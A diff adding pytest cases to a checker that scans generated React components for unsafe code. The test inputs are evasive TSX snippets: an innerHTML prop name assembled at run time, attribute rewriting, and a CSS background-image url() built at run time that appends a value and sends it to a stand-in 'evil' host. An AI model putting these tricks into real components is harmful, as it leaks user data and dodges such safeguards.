@@ -181,3 +181,39 @@ def test_every_template_output_has_no_finding() -> None:
         code = TemplateProvider().generate_code(ctx)
         files = {"component.tsx": code.component_tsx, "stories.tsx": code.stories_tsx}
         assert check_files(files) == [], spec.component_name
+
+
+@pytest.mark.parametrize(
+    "body, rule",
+    [
+        # props with a key built at run time handed to an element
+        ('let k = "dangerouslySet";\nk += "InnerHTML";\n'
+         'const c = React.cloneElement(<b />, { [k]: { __html: "<img>" } });', "computed-access"),
+        ('const c = React.cloneElement(<b />, Object.fromEntries([["a", 1]]));', "jsx-spread"),
+        # an attribute's value rewritten through its node
+        ('const f = (el: HTMLAnchorElement): void => { el.attributes[0].value = "x"; };',
+         "member"),
+        # a URL property set in code, in the DOM's lower-case spelling
+        ('const f = (el: HTMLImageElement): void => { el.srcset = "https://e/a 1x"; };', "url"),
+        # CSS that loads a URL, its url( assembled at run time
+        ('let u = "ur";\nu += "l(https://evil/?";\n'
+         "const f = (el: HTMLElement): void => { el.style.backgroundImage = u + value; };",
+         "css-resource"),
+        ('let u = "ur";\nu += "l(//e/";\nconst s = { backgroundImage: u + ")" };', "css-resource"),
+        ("const f = (el: HTMLElement): void => "
+         '{ el.style.setProperty("background-image", String(value)); };', "css-resource"),
+    ],
+)  # fmt: skip
+def test_props_and_css_built_at_run_time_are_refused(body: str, rule: str) -> None:
+    assert rule in {f.rule for f in check_source(in_component(body), "component.tsx")}
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        'const c = React.cloneElement(<b />, { className: "x", "aria-hidden": true });',
+        'const s = { transform: `translateX(${value}px)`, background: "var(--cf-x)" };',
+    ],
+)
+def test_constant_props_and_css_pass(body: str) -> None:
+    assert check_source(in_component(body), "component.tsx") == []
